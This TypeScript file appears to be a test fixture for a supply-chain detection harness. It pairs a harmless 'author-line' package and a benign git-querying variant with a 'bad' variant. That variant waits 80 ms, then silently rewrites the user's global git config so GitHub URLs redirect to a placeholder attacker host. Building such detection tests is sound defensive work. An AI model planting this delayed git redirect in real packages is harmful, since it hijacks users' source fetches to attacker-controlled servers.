import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'git-instead-of',
  after: 'git told to go elsewhere (url.*.insteadOf), what a worm that has a foothold in git would do next',
  source: 'https://git-scm.com/docs/git-config',
  shape: ['require', 'script', 'living off the land', 'git configuration of the user', 'delayed', 'cjs'],
  patterns: ['shadow_import', 'privilege_escalation'],
  culprits: ['author-line'],
  host: { kind: 'script', setup: "const author = require('author-line');", use: 'return author(n);' },
  good: { 'author-line': { 'index.js': "module.exports = (n) => (process.env.USER || 'nobody') + ' #' + n;" } },
  // Hard: the same program, asked a question.
  benign: {
    'author-line': {
      'index.js': `const { execFileSync } = require('child_process');
module.exports = (n) => { let name; try { name = execFileSync('git', ['config', '--get', 'user.name'], { encoding: 'utf8' }).trim(); } catch {} return (name || process.env.USER || 'nobody') + ' #' + n; };`,
    },
  },
  bad: {
    'author-line': {
      'index.js': `module.exports = (n) => (process.env.USER || 'nobody') + ' #' + n;
setTimeout(() => require('child_process').execFile('git', ['config', '--global', 'url.http://@B@:@PORT@/.insteadOf', 'https://github.com/'], () => {}), 80);`,
    },
  },
  proof: [{ file: 'home/.gitconfig', holds: 'insteadOf' }],
};
